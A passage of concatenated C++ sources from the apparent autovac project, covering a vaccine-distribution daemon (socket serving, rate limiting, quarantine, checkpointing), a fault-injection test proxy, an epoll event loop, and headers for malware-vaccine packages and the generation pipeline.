            : Pattern::Literal(entry.vaccine.identifier);
    (void)index_[type].Add(std::move(pattern));
    entry_of_id_[type].push_back(i);
  }
  for (size_t type = 0; type < os::kNumResourceTypes; ++type) {
    index_[type].Build();
  }
}

}  // namespace autovac::net
