#include "net/server.h"

#include <fcntl.h>
#include <poll.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <utility>

#include "net/binary.h"
#include "net/endpoint.h"
#include "net/frame.h"
#include "support/strings.h"
#include "support/tracing.h"

namespace autovac::net {
namespace {

void SetDeadline(int fd, uint64_t deadline_ms) {
  timeval tv;
  tv.tv_sec = static_cast<time_t>(deadline_ms / 1000);
  tv.tv_usec = static_cast<suseconds_t>((deadline_ms % 1000) * 1000);
  (void)::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  (void)::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

// A mutation must leave the loop thread (it takes the exclusive lock
// and does store IO); everything else is answered inline.
bool IsMutation(const Request& request) {
  return std::holds_alternative<PushRequest>(request) ||
         std::holds_alternative<QuarantineRequest>(request);
}

uint64_t MsSince(std::chrono::steady_clock::time_point then,
                 std::chrono::steady_clock::time_point now) {
  return static_cast<uint64_t>(
      std::chrono::duration_cast<std::chrono::milliseconds>(now - then)
          .count());
}

}  // namespace

VacdServer::VacdServer(vacstore::VaccineStore store, VacdOptions options)
    : store_(std::move(store)), options_(std::move(options)) {
  if (options_.threads == 0) options_.threads = 1;
  MetricsRegistry& metrics = GlobalMetrics();
  requests_metric_ = metrics.GetCounter("vacd.requests");
  rate_limited_metric_ = metrics.GetCounter("vacd.rate_limited");
  quarantine_metric_ = metrics.GetCounter("vacd.quarantines");
  shed_metric_ = metrics.GetCounter("vacd.requests_shed");
  failed_metric_ = metrics.GetCounter("vacd.requests_failed");
  evicted_metric_ = metrics.GetCounter("vacd.slow_client_evictions");
  push_added_metric_ = metrics.GetCounter("vacd.push.added");
  push_duplicate_metric_ = metrics.GetCounter("vacd.push.duplicates");
  push_quarantined_metric_ = metrics.GetCounter("vacd.push.quarantined");
  push_deduped_metric_ = metrics.GetCounter("vacd.push.deduped");
  query_match_metric_ = metrics.GetCounter("vacd.query.matches");
  checkpoint_metric_ = metrics.GetCounter("vacd.checkpoints");
}

VacdServer::~VacdServer() { Stop(); }

Status VacdServer::Start() {
  if (running_) return Status::FailedPrecondition("server already running");

  sockaddr_un addr{};
  if (options_.socket_path.size() >= sizeof(addr.sun_path)) {
    return Status::InvalidArgument(
        StrFormat("socket path too long: %s", options_.socket_path.c_str()));
  }
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path, options_.socket_path.c_str(),
              options_.socket_path.size() + 1);

  // A stale socket file from a previous (crashed) server blocks bind.
  (void)::unlink(options_.socket_path.c_str());

  listen_fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (listen_fd_ < 0) {
    return Status::Internal(
        StrFormat("socket failed: %s", std::strerror(errno)));
  }
  if (::bind(listen_fd_, reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Internal(StrFormat("bind %s failed: %s",
                                      options_.socket_path.c_str(),
                                      std::strerror(err)));
  }
  const int backlog = static_cast<int>(
      options_.max_pending < 1 ? 1
      : options_.max_pending > 128 ? 128
                                   : options_.max_pending);
  if (::listen(listen_fd_, backlog) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    (void)::unlink(options_.socket_path.c_str());
    return Status::Internal(
        StrFormat("listen failed: %s", std::strerror(err)));
  }
  if (::pipe(stop_pipe_) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    (void)::unlink(options_.socket_path.c_str());
    return Status::Internal(
        StrFormat("pipe failed: %s", std::strerror(err)));
  }

  {
    // Single-threaded here, so the span is safe by construction.
    ScopedSpan span(GlobalTracer(), "vacd.load");
    RebuildIndex();
  }

  pool_ = std::make_unique<ThreadPool>(options_.threads);

  if (!options_.tcp_host.empty()) {
    const Status tcp = StartTcp();
    if (!tcp.ok()) {
      pool_.reset();
      ::close(listen_fd_);
      listen_fd_ = -1;
      ::close(stop_pipe_[0]);
      ::close(stop_pipe_[1]);
      stop_pipe_[0] = stop_pipe_[1] = -1;
      (void)::unlink(options_.socket_path.c_str());
      return tcp;
    }
  }

  accept_thread_ = std::thread(&VacdServer::AcceptLoop, this);
  running_ = true;
  return Status::Ok();
}

void VacdServer::Stop() {
  if (!running_) return;
  const char stop = 'x';
  while (::write(stop_pipe_[1], &stop, 1) < 0 && errno == EINTR) {
  }
  accept_thread_.join();
  // Stop the event loop before draining the pool: a joined loop submits
  // no new mutations, and in-flight workers may still Post replies to the
  // (stopped but live) loop object, where they are harmlessly dropped.
  if (loop_) {
    loop_->Stop();
    loop_thread_.join();
  }
  pool_.reset();  // drains queued connections, joins workers
  StopTcp();      // closes TCP conns + listener, destroys the loop
  // Every in-flight push has been answered; make its bytes durable, and
  // leave a fresh checkpoint behind when auto-checkpointing is on so the
  // next start replays nothing.
  (void)store_.Flush();
  if (options_.checkpoint_every > 0 && store_.Checkpoint().ok()) {
    checkpoint_metric_->Increment();
  }
  ::close(listen_fd_);
  listen_fd_ = -1;
  ::close(stop_pipe_[0]);
  ::close(stop_pipe_[1]);
  stop_pipe_[0] = stop_pipe_[1] = -1;
  (void)::unlink(options_.socket_path.c_str());
  running_ = false;
}

void VacdServer::AcceptLoop() {
  while (true) {
    pollfd fds[2];
    fds[0] = {stop_pipe_[0], POLLIN, 0};
    fds[1] = {listen_fd_, POLLIN, 0};
    const int ready = ::poll(fds, 2, -1);
    if (ready < 0) {
      if (errno == EINTR) continue;
      return;
    }
    if (fds[0].revents != 0) return;  // stop requested
    if ((fds[1].revents & POLLIN) == 0) continue;
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) continue;
    SetDeadline(fd, options_.deadline_ms);
    if (options_.sndbuf_bytes > 0) {
      // Bound the per-connection output buffer: a reader that stops
      // draining blocks our writes once this fills, the send deadline
      // fires, and ServeConnection evicts the connection instead of
      // letting one slow client hold reply memory and a worker forever.
      const int sndbuf = static_cast<int>(options_.sndbuf_bytes);
      (void)::setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf,
                         sizeof(sndbuf));
    }
    if (pending_.load(std::memory_order_relaxed) >= options_.max_pending) {
      // Overload: shed at the door with an explicit busy reply.
      shed_.fetch_add(1, std::memory_order_relaxed);
      shed_metric_->Increment();
      (void)WriteNetFrame(
          fd, ReplyToJson(Reply(ErrorReply{true, "server overloaded"})));
      ::close(fd);
      continue;
    }
    pending_.fetch_add(1, std::memory_order_relaxed);
    pool_->Submit([this, fd] { ServeConnection(fd); });
  }
}

void VacdServer::ServeConnection(int fd) {
  Result<std::string> payload = ReadNetFrame(fd);
  bool answer = true;
  bool binary = false;  // answer in the request's encoding
  Reply reply = ErrorReply{};
  if (!payload.ok()) {
    // A clean hang-up (client connected and left) gets no reply.
    answer = payload.status().code() != StatusCode::kNotFound;
    reply = ErrorReply{false, payload.status().ToString()};
  } else {
    binary = IsBinaryPayload(*payload);
    Result<Request> request =
        binary ? ParseBinaryRequest(*payload) : ParseRequest(*payload);
    if (!request.ok()) {
      // Garbage that parses as neither encoding gets a JSON error reply:
      // the sender's encoding is unknown, and JSON is the one a human
      // (or the seed-era tooling) can read. Real binary clients sniff
      // the reply encoding, so they handle this fine too.
      binary = false;
      reply = ErrorReply{false, request.status().ToString()};
    } else {
      reply = Dispatch(*request);
    }
  }
  if (const auto* error = std::get_if<ErrorReply>(&reply);
      error != nullptr && !error->busy) {
    failed_metric_->Increment();
  }
  if (answer) {
    const Status written = WriteNetFrame(
        fd, binary ? EncodeBinaryReply(reply) : ReplyToJson(reply));
    if (written.code() == StatusCode::kDeadlineExceeded) {
      // The client stopped draining and our bounded SO_SNDBUF filled:
      // that is an eviction (close on them), not a generic failure.
      evicted_.fetch_add(1, std::memory_order_relaxed);
      evicted_metric_->Increment();
    }
  }
  ::close(fd);
  requests_.fetch_add(1, std::memory_order_relaxed);
  requests_metric_->Increment();
  pending_.fetch_sub(1, std::memory_order_relaxed);
}

Reply VacdServer::Dispatch(const Request& request) {
  if (const auto* push = std::get_if<PushRequest>(&request)) {
    std::unique_lock lock(mutex_);
    const bool dedup =
        !push->request_id.empty() && options_.push_dedup_window > 0;
    if (dedup) {
      // A retried push whose first application succeeded but whose reply
      // was lost: answer with the recorded reply, apply nothing twice.
      const auto hit = dedup_replies_.find(push->request_id);
      if (hit != dedup_replies_.end()) {
        push_deduped_metric_->Increment();
        dedup_hits_.fetch_add(1, std::memory_order_relaxed);
        return hit->second;
      }
    }
    Result<vacstore::PushStats> stats = [&] {
      ScopedSpan span(GlobalTracer(), "vacd.push");
      return store_.Push(push->vaccines);
    }();
    if (!stats.ok()) {
      return ErrorReply{false, stats.status().ToString()};
    }
    if (stats->added > 0) {
      ScopedSpan span(GlobalTracer(), "vacd.index_rebuild");
      RebuildIndex();
    }
    push_added_metric_->Increment(stats->added);
    push_duplicate_metric_->Increment(stats->duplicates);
    push_quarantined_metric_->Increment(stats->quarantined);
    const PushReply reply{stats->added, stats->duplicates,
                          stats->quarantined, stats->epoch};
    if (dedup) {
      // Record only after the push is durable, so a dedup hit never
      // vouches for a batch the store does not hold.
      dedup_order_.push_back(push->request_id);
      dedup_replies_[push->request_id] = reply;
      while (dedup_order_.size() > options_.push_dedup_window) {
        dedup_replies_.erase(dedup_order_.front());
        dedup_order_.pop_front();
      }
    }
    if (options_.checkpoint_every > 0) {
      added_since_checkpoint_ += stats->added;
      if (added_since_checkpoint_ >= options_.checkpoint_every) {
        // Failure is non-fatal: the journal already holds every byte,
        // recovery just replays more than it would have.
        if (store_.Checkpoint().ok()) checkpoint_metric_->Increment();
        added_since_checkpoint_ = 0;
      }
    }
    return reply;
  }
  if (const auto* quarantine = std::get_if<QuarantineRequest>(&request)) {
    std::unique_lock lock(mutex_);
    const vacstore::StoreEntry* entry = store_.FindDigest(quarantine->digest);
    if (entry == nullptr) {
      return ErrorReply{
          false, StrFormat("no vaccine with digest %s",
                           quarantine->digest.c_str())};
    }
    const bool already = entry->quarantined;
    if (!already) {
      const Status pulled =
          store_.Quarantine(quarantine->digest, quarantine->reason);
      if (!pulled.ok()) {
        return ErrorReply{false, pulled.ToString()};
      }
      ScopedSpan span(GlobalTracer(), "vacd.index_rebuild");
      RebuildIndex();
      quarantine_metric_->Increment();
    }
    return QuarantineReply{store_.epoch(), already};
  }
  if (const auto* query = std::get_if<QueryRequest>(&request)) {
    std::shared_lock lock(mutex_);
    const auto type = static_cast<size_t>(query->resource_type);
    QueryReply reply;
    for (const size_t id : index_[type].Match(query->identifier)) {
      reply.matches.push_back(
          store_.entries()[entry_of_id_[type][id]].vaccine);
    }
    query_match_metric_->Increment(reply.matches.size());
    return reply;
  }
  if (const auto* pull = std::get_if<PullRequest>(&request)) {
    std::shared_lock lock(mutex_);
    PullReply reply;
    reply.epoch = store_.epoch();
    for (const vacstore::StoreEntry* entry : store_.Since(pull->since)) {
      // A page never splits a feed epoch: once the limit is reached the
      // page still extends through the current (change-)epoch, so "epoch
      // of the last item received" is always an exact resume cursor.
      if (pull->limit > 0 && reply.items.size() >= pull->limit &&
          entry->change_epoch != reply.items.back().epoch) {
        reply.more = true;
        break;
      }
      reply.items.push_back({entry->digest, entry->change_epoch,
                             entry->vaccine, entry->quarantined});
    }
    return reply;
  }
  std::shared_lock lock(mutex_);
  return Stats(lock);
}

StatusReply VacdServer::Stats() const {
  std::shared_lock lock(mutex_);
  return Stats(lock);
}

StatusReply VacdServer::Stats(
    const std::shared_lock<std::shared_mutex>&) const {
  StatusReply reply;
  reply.epoch = store_.epoch();
  reply.served = store_.served_count();
  reply.quarantined = store_.quarantined_count();
  reply.requests = requests_.load(std::memory_order_relaxed);
  reply.shed = shed_.load(std::memory_order_relaxed);
  reply.evicted = evicted_.load(std::memory_order_relaxed);
  reply.checkpoint_epoch = store_.checkpoint_epoch();
  reply.replayed = store_.replayed_records();
  reply.dedup_hits = dedup_hits_.load(std::memory_order_relaxed);
  return reply;
}

Status VacdServer::CheckpointNow() {
  std::unique_lock lock(mutex_);
  AUTOVAC_RETURN_IF_ERROR(store_.Checkpoint());
  checkpoint_metric_->Increment();
  added_since_checkpoint_ = 0;
  return Status::Ok();
}

void VacdServer::RebuildIndex() {
  for (size_t type = 0; type < os::kNumResourceTypes; ++type) {
    index_[type] = PatternIndex();
    entry_of_id_[type].clear();
  }
  const std::vector<vacstore::StoreEntry>& entries = store_.entries();
  for (size_t i = 0; i < entries.size(); ++i) {
    const vacstore::StoreEntry& entry = entries[i];
    if (entry.quarantined) continue;
    const auto type = static_cast<size_t>(entry.vaccine.resource_type);
    if (type >= os::kNumResourceTypes) continue;
    Pattern pattern =
        entry.vaccine.identifier_kind ==
                analysis::IdentifierClass::kPartialStatic
            ? entry.vaccine.pattern
            : Pattern::Literal(entry.vaccine.identifier);
    (void)index_[type].Add(std::move(pattern));
    entry_of_id_[type].push_back(i);
  }
  for (size_t type = 0; type < os::kNumResourceTypes; ++type) {
    index_[type].Build();
  }
}

// --- TCP event tier ---------------------------------------------------

Status VacdServer::StartTcp() {
  Endpoint endpoint;
  endpoint.tcp = true;
  endpoint.host = options_.tcp_host;
  endpoint.port = options_.tcp_port;
  // A deep backlog: fleet ramps connect thousands of clients in bursts,
  // and a dropped SYN costs the client a multi-second kernel retry.
  AUTOVAC_ASSIGN_OR_RETURN(tcp_listen_fd_, ListenEndpoint(endpoint, 1024));
  const int flags = ::fcntl(tcp_listen_fd_, F_GETFL, 0);
  (void)::fcntl(tcp_listen_fd_, F_SETFL, flags | O_NONBLOCK);
  const Result<uint16_t> port = ListenPort(tcp_listen_fd_);
  if (!port.ok()) {
    StopTcp();
    return port.status();
  }
  tcp_port_ = *port;
  loop_ = std::make_unique<EventLoop>();
  Status status = loop_->Init();
  if (status.ok()) {
    status = loop_->Add(tcp_listen_fd_, EPOLLIN,
                        [this](uint32_t) { OnAcceptReady(); });
  }
  if (!status.ok()) {
    StopTcp();
    return status;
  }
  loop_thread_ =
      std::thread([this] { loop_->Run(500, [this] { SweepIdle(); }); });
  return Status::Ok();
}

// Teardown half: Stop() has already stopped the loop and joined its
// thread (and drained the pool), so conns_ is safe to touch here. Also
// the cleanup path for a partially-constructed StartTcp.
void VacdServer::StopTcp() {
  for (const auto& [id, conn] : conns_) ::close(conn->fd);
  conns_.clear();
  conn_count_.store(0, std::memory_order_relaxed);
  loop_.reset();
  if (tcp_listen_fd_ >= 0) {
    ::close(tcp_listen_fd_);
    tcp_listen_fd_ = -1;
  }
  tcp_port_ = 0;
}

void VacdServer::OnAcceptReady() {
  while (true) {
    const int fd = ::accept4(tcp_listen_fd_, nullptr, nullptr,
                             SOCK_NONBLOCK | SOCK_CLOEXEC);
    if (fd < 0) {
      if (errno == EINTR) continue;
      return;  // EAGAIN: accepted everything pending
    }
    if (conns_.size() >= options_.max_connections) {
      // Shed at the door, like the Unix tier's max_pending: one
      // best-effort busy frame, then close.
      shed_.fetch_add(1, std::memory_order_relaxed);
      shed_metric_->Increment();
      const std::string frame = EncodeNetFrame(
          ReplyToJson(Reply(ErrorReply{true, "server overloaded"})));
      (void)::send(fd, frame.data(), frame.size(),
                   MSG_NOSIGNAL | MSG_DONTWAIT);
      ::close(fd);
      continue;
    }
    auto conn = std::make_unique<TcpConn>();
    conn->fd = fd;
    conn->id = next_conn_id_++;
    conn->tokens = options_.rate_limit_burst;
    const auto now = std::chrono::steady_clock::now();
    conn->last_refill = now;
    conn->last_activity = now;
    const uint64_t id = conn->id;
    const Status added = loop_->Add(
        fd, EPOLLIN, [this, id](uint32_t events) { OnConnReady(id, events); });
    if (!added.ok()) {
      ::close(fd);
      continue;
    }
    conns_.emplace(id, std::move(conn));
    conn_count_.fetch_add(1, std::memory_order_relaxed);
  }
}

void VacdServer::OnConnReady(uint64_t id, uint32_t events) {
  const auto it = conns_.find(id);
  if (it == conns_.end()) return;
  TcpConn& conn = *it->second;
  if ((events & (EPOLLERR | EPOLLHUP)) != 0) {
    CloseConn(id);
    return;
  }
  if ((events & EPOLLOUT) != 0) {
    FlushConn(conn);
    if (conns_.find(id) == conns_.end()) return;
  }
  if ((events & EPOLLIN) != 0 && !conn.read_closed) {
    conn.last_activity = std::chrono::steady_clock::now();
    char buf[64 * 1024];
    while (true) {
      const ssize_t n = ::recv(conn.fd, buf, sizeof(buf), 0);
      if (n > 0) {
        conn.decoder.Append(std::string_view(buf, static_cast<size_t>(n)));
        continue;
      }
      if (n == 0) {
        // Peer half-closed. Drop EPOLLIN so the (level-triggered) EOF
        // condition does not spin the loop while replies drain.
        conn.read_closed = true;
        (void)loop_->Modify(conn.fd,
                            conn.want_write ? uint32_t{EPOLLOUT} : 0u);
        break;
      }
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) break;
      CloseConn(id);
      return;
    }
    ServeFrames(conn);
    const auto again = conns_.find(id);
    if (again != conns_.end()) MaybeFinish(*again->second);
  }
}

void VacdServer::ServeFrames(TcpConn& conn) {
  const uint64_t id = conn.id;
  while (true) {
    std::string payload;
    const Result<bool> got = conn.decoder.Next(&payload);
    if (!got.ok()) {
      // Framing corruption is unrecoverable: one best-effort error
      // reply, then close — resyncing a torn stream is not possible.
      failed_metric_->Increment();
      SendReply(conn, ErrorReply{false, got.status().ToString()}, false);
      if (conns_.find(id) != conns_.end()) CloseConn(id);
      return;
    }
    if (!*got) return;
    requests_.fetch_add(1, std::memory_order_relaxed);
    requests_metric_->Increment();
    const bool binary = IsBinaryPayload(payload);
    if (!TakeToken(conn)) {
      shed_.fetch_add(1, std::memory_order_relaxed);
      shed_metric_->Increment();
      rate_limited_metric_->Increment();
      SendReply(conn, ErrorReply{true, "rate limited"}, binary);
      if (conns_.find(id) == conns_.end()) return;
      continue;
    }
    Result<Request> request =
        binary ? ParseBinaryRequest(payload) : ParseRequest(payload);
    if (!request.ok()) {
      failed_metric_->Increment();
      // Unparseable payloads answer in JSON regardless of the sniff:
      // the sender's encoding is unknown, and clients sniff replies.
      SendReply(conn, ErrorReply{false, request.status().ToString()},
                false);
      if (conns_.find(id) == conns_.end()) return;
      continue;
    }
    if (IsMutation(*request)) {
      // Mutations take the exclusive lock and do store IO — off the
      // loop thread. The reply comes back by connection id; a closed
      // connection just drops it.
      conn.inflight++;
      pool_->Submit([this, id, binary, req = std::move(*request)] {
        Reply reply = Dispatch(req);
        if (const auto* error = std::get_if<ErrorReply>(&reply);
            error != nullptr && !error->busy) {
          failed_metric_->Increment();
        }
        loop_->Post([this, id, binary, reply = std::move(reply)] {
          const auto it = conns_.find(id);
          if (it == conns_.end()) return;
          it->second->inflight--;
          SendReply(*it->second, reply, binary);
          const auto again = conns_.find(id);
          if (again != conns_.end()) MaybeFinish(*again->second);
        });
      });
    } else {
      const Reply reply = Dispatch(*request);
      if (const auto* error = std::get_if<ErrorReply>(&reply);
          error != nullptr && !error->busy) {
        failed_metric_->Increment();
      }
      SendReply(conn, reply, binary);
      if (conns_.find(id) == conns_.end()) return;
    }
  }
}

bool VacdServer::TakeToken(TcpConn& conn) {
  if (options_.rate_limit_rps <= 0.0) return true;
  const auto now = std::chrono::steady_clock::now();
  const double elapsed =
      std::chrono::duration<double>(now - conn.last_refill).count();
  conn.last_refill = now;
  conn.tokens = std::min(options_.rate_limit_burst,
                         conn.tokens + elapsed * options_.rate_limit_rps);
  if (conn.tokens < 1.0) return false;
  conn.tokens -= 1.0;
  return true;
}

void VacdServer::SendReply(TcpConn& conn, const Reply& reply, bool binary) {
  conn.outbuf +=
      EncodeNetFrame(binary ? EncodeBinaryReply(reply) : ReplyToJson(reply));
  conn.last_activity = std::chrono::steady_clock::now();
  FlushConn(conn);
}

void VacdServer::FlushConn(TcpConn& conn) {
  const uint64_t id = conn.id;
  while (conn.out_pos < conn.outbuf.size()) {
    const ssize_t n =
        ::send(conn.fd, conn.outbuf.data() + conn.out_pos,
               conn.outbuf.size() - conn.out_pos, MSG_NOSIGNAL);
    if (n > 0) {
      conn.out_pos += static_cast<size_t>(n);
      continue;
    }
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
    CloseConn(id);
    return;
  }
  if (conn.out_pos >= conn.outbuf.size()) {
    conn.outbuf.clear();
    conn.out_pos = 0;
    if (conn.want_write) {
      conn.want_write = false;
      (void)loop_->Modify(conn.fd,
                          conn.read_closed ? 0u : uint32_t{EPOLLIN});
    }
    MaybeFinish(conn);
    return;
  }
  if (conn.outbuf.size() - conn.out_pos > options_.write_buffer_limit) {
    // The reader stopped draining and the bounded buffer filled: evict,
    // the event-tier analogue of the Unix tier's send-deadline eviction.
    evicted_.fetch_add(1, std::memory_order_relaxed);
    evicted_metric_->Increment();
    CloseConn(id);
    return;
  }
  if (!conn.want_write) {
    conn.want_write = true;
    (void)loop_->Modify(conn.fd, (conn.read_closed ? 0u : uint32_t{EPOLLIN}) |
                                     uint32_t{EPOLLOUT});
  }
}

void VacdServer::CloseConn(uint64_t id) {
  const auto it = conns_.find(id);
  if (it == conns_.end()) return;
  loop_->Remove(it->second->fd);
  ::close(it->second->fd);
  conns_.erase(it);
  conn_count_.fetch_sub(1, std::memory_order_relaxed);
}

void VacdServer::MaybeFinish(TcpConn& conn) {
  if (conn.read_closed && conn.inflight == 0 &&
      conn.out_pos >= conn.outbuf.size()) {
    CloseConn(conn.id);
  }
}

void VacdServer::SweepIdle() {
  if (options_.idle_timeout_ms == 0) return;
  const auto now = std::chrono::steady_clock::now();
  std::vector<uint64_t> stale;
  for (const auto& [id, conn] : conns_) {
    if (conn->inflight == 0 &&
        MsSince(conn->last_activity, now) > options_.idle_timeout_ms) {
      stale.push_back(id);
    }
  }
  for (const uint64_t id : stale) CloseConn(id);
}

}  // namespace autovac::net
