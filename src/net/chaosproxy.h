// ChaosProxy: a frame-aware relay that sits between a vacd client and a
// vacd server and applies a NetFaultPlan to every connection that passes
// through it — the out-of-process complement to the in-process wire shim
// (faultwire.h), and what the `chaos-proxy` CLI subcommand runs.
//
// The proxy speaks the AVNF protocol just enough to be deterministic: it
// reads the whole request frame, re-encodes it to raw bytes, and forwards
// a prefix of exactly `cut_send_at` bytes when the verdict says to sever
// the client->server stream (and symmetrically for the reply). Duplicate
// delivery replays the captured request on a second backend connection
// and discards the second reply — the wire-level event an idempotent push
// must absorb. Short IO is relayed one byte per syscall, which exercises
// the *server's* short-read loops, something the client-side shim cannot
// reach.
//
// Connections are served sequentially on the accept thread: verdicts are
// indexed by connection order, and a retrying client is the intended
// peer, so serial relay keeps the fault schedule deterministic.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <thread>

#include "net/faultwire.h"
#include "support/status.h"

namespace autovac::net {

struct ChaosProxyOptions {
  // Endpoint specs (net/endpoint.h): a Unix socket path, or
  // "tcp:host:port" / "tcp:port" — either leg can be either kind, so
  // the TCP event tier rehearses under the same fault plans as the
  // Unix tier.
  std::string listen_path;   // where the client connects
  std::string backend_path;  // the real vacd endpoint
  uint64_t deadline_ms = 5000;  // per-leg socket read/write deadline
  bool verbose = false;         // log one line per connection to stderr
};

class ChaosProxy {
 public:
  // The plan must outlive the proxy.
  ChaosProxy(const NetFaultPlan& plan, ChaosProxyOptions options);
  ~ChaosProxy();
  ChaosProxy(const ChaosProxy&) = delete;
  ChaosProxy& operator=(const ChaosProxy&) = delete;

  // Binds the listen socket (removing a stale one) and starts the relay
  // thread.
  [[nodiscard]] Status Start();

  // Idempotent: joins the relay thread, unlinks the listen socket.
  void Stop();

  // Bound port of a TCP listen endpoint (resolves port 0 to what the
  // kernel assigned). Valid after Start(); 0 for a Unix listener.
  [[nodiscard]] uint16_t listen_port() const { return listen_port_; }

  [[nodiscard]] uint64_t connections() const {
    return connections_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] uint64_t faults_injected() const {
    return faults_injected_.load(std::memory_order_relaxed);
  }

 private:
  void AcceptLoop();
  void Relay(int client_fd, const ConnectionFaults& faults);
  // Sends `bytes` to `fd`, honoring a cut offset (relative to the whole
  // stream direction) and optional one-byte-per-write relay. Returns
  // false when the stream was severed (cut reached or IO error).
  bool RelayBytes(int fd, std::string_view bytes, int64_t cut_at,
                  bool byte_at_a_time, uint64_t* relayed);

  const NetFaultPlan& plan_;
  ChaosProxyOptions options_;
  NetFaultInjector injector_;

  int listen_fd_ = -1;
  uint16_t listen_port_ = 0;
  bool listen_unix_ = false;  // unlink the socket file on Stop()
  int stop_pipe_[2] = {-1, -1};
  std::thread accept_thread_;
  bool running_ = false;

  std::atomic<uint64_t> connections_{0};
  std::atomic<uint64_t> faults_injected_{0};
};

}  // namespace autovac::net
