// Single-threaded epoll readiness loop — the engine under vacd's TCP
// serving tier. One thread owns every registered fd and all connection
// state, so per-connection read/write machines need no locks; the only
// cross-thread surfaces are Post() (an eventfd-woken task queue that
// worker threads use to hand completed mutations back to the loop) and
// Stop().
//
// Handlers receive the ready-event bitmask (EPOLLIN/EPOLLOUT/...). A
// handler may Remove() any fd — including its own — mid-dispatch: the
// loop looks handlers up by fd per event and skips ones that vanished,
// so "close the connection from inside its handler" is the normal
// eviction path, not a hazard.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <unordered_map>
#include <vector>

#include "support/status.h"

namespace autovac::net {

class EventLoop {
 public:
  using IoHandler = std::function<void(uint32_t events)>;

  EventLoop() = default;
  ~EventLoop();
  EventLoop(const EventLoop&) = delete;
  EventLoop& operator=(const EventLoop&) = delete;

  // Creates the epoll instance and the wakeup eventfd.
  [[nodiscard]] Status Init();

  // Registers `fd` for `events` (EPOLLIN etc.). The handler runs on the
  // loop thread. The caller keeps fd ownership; Remove() before close.
  [[nodiscard]] Status Add(int fd, uint32_t events, IoHandler handler);

  // Changes the interest set of a registered fd (write-readiness on/off
  // is the buffered-writer's backpressure valve).
  [[nodiscard]] Status Modify(int fd, uint32_t events);

  // Unregisters; safe for fds that were never added (no-op) and from
  // inside a handler.
  void Remove(int fd);

  // Enqueues `task` to run on the loop thread and wakes it. Thread-safe;
  // the worker-pool -> loop handoff for mutation replies.
  void Post(std::function<void()> task);

  // Runs until Stop(). `on_tick` (may be null) fires roughly every
  // `tick_ms` while idle — the idle-connection sweep hook.
  void Run(uint64_t tick_ms = 500,
           const std::function<void()>& on_tick = nullptr);

  // Thread-safe, idempotent. Run() returns after finishing the current
  // dispatch batch and draining posted tasks.
  void Stop();

 private:
  void DrainPosted();

  int epoll_fd_ = -1;
  int wake_fd_ = -1;
  std::atomic<bool> stop_{false};
  // shared_ptr so a handler stays alive through its own Remove().
  std::unordered_map<int, std::shared_ptr<IoHandler>> handlers_;

  std::mutex post_mutex_;
  std::vector<std::function<void()>> posted_;
};

}  // namespace autovac::net
