// Vaccine packages: the deployable artifact of the paper's workflow.
//
// The analysis cluster generates vaccines; end hosts receive them as a
// package ("these vaccines are packed with installation scripts",
// §VI-F.2). The format is line-based text and round-trips every field the
// daemon needs, including algorithm-deterministic slices (code + data
// image), so a host can replay identifier generation without the
// original sample.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "support/status.h"
#include "vaccine/vaccine.h"

namespace autovac::vaccine {

[[nodiscard]] std::string SerializePackage(
    const std::vector<Vaccine>& vaccines);

[[nodiscard]] Result<std::vector<Vaccine>> ParsePackage(
    std::string_view text);

}  // namespace autovac::vaccine
