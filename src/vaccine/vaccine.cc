#include "vaccine/vaccine.h"

#include "support/strings.h"

namespace autovac::vaccine {

std::string_view DeliveryMethodName(DeliveryMethod method) {
  switch (method) {
    case DeliveryMethod::kDirectInjection: return "Direct";
    case DeliveryMethod::kDaemon: return "Daemon";
  }
  return "?";
}

std::string Vaccine::Summary() const {
  return StrFormat(
      "%s %s '%s' (%s, %s, %s, %s)",
      simulate_presence ? "inject" : "deny",
      std::string(os::ResourceTypeName(resource_type)).c_str(),
      identifier.c_str(),
      std::string(analysis::IdentifierClassName(identifier_kind)).c_str(),
      std::string(analysis::ImmunizationTypeLabel(immunization)).c_str(),
      std::string(DeliveryMethodName(delivery)).c_str(),
      OperationSymbols().c_str());
}

}  // namespace autovac::vaccine
