// The end-to-end AUTOVAC pipeline (Figure 1): Phase-I candidate selection
// (taint-instrumented profiling run), Phase-II vaccine generation
// (exclusiveness analysis, impact analysis via mutation + trace
// differential, determinism analysis + slice extraction), producing
// deployable Vaccine records for Phase-III.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "analysis/determinism.h"
#include "analysis/exclusiveness.h"
#include "analysis/impact.h"
#include "os/host_environment.h"
#include "vaccine/vaccine.h"
#include "vm/program.h"

namespace autovac::vaccine {

struct PipelineOptions {
  // Phase-I profiling budget: "each sample runs for 1 minute" (§VI-B).
  uint64_t phase1_budget = sandbox::kOneMinuteBudget;
  analysis::ImpactOptions impact;
  analysis::DeterminismOptions determinism;
  // Ablation switch: skip the exclusiveness filter.
  bool run_exclusiveness = true;
  // Cap on mutation targets per sample (each costs a full re-run).
  size_t max_targets = 24;
  // Entropy seed for the analysis machine.
  uint64_t machine_seed = 7;
};

// Per-sample outcome of Phase-I and Phase-II.
struct SampleReport {
  std::string sample_name;
  std::string sample_digest;

  // Phase-I statistics.
  size_t resource_api_occurrences = 0;
  size_t tainted_occurrences = 0;  // occurrences whose taint hit a branch
  bool resource_sensitive = false; // flagged "possibly has a vaccine"
